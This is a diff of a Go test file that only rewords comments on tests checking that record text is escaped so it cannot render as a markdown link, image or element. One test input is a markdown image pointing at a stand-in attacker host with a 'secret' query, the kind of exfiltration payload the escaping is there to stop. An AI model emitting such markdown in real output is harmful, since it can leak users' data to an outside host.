@@ -9,8 +9,8 @@ import (
 	"github.com/bailiwick-dev/bailiwick/change"
 )
 
-// TestInert checks that texts of records make no link, image or element in the text of a change. Other texts must stay
-// as they are.
+// TestInert checks that record texts don't produce a link, an image or an element in the text of a change. Other
+// texts must stay unchanged.
 func TestInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x]\(https\://evil.example/?q=secret)`},
@@ -33,7 +33,7 @@ func TestInert(t *testing.T) {
 	}
 }
 
-// TestInertJSON checks that JSON has no link, image or element either, and is the same value.
+// TestInertJSON checks that JSON text contains no link, image or element and still encodes the same value.
 func TestInertJSON(t *testing.T) {
 	for _, tt := range [][2]string{
 		{`{"url":"https://a.example/b","n":[[1],[2]]}`, `{"url":"https:\/\/a.example/b","n":[[1],[2]]}`},
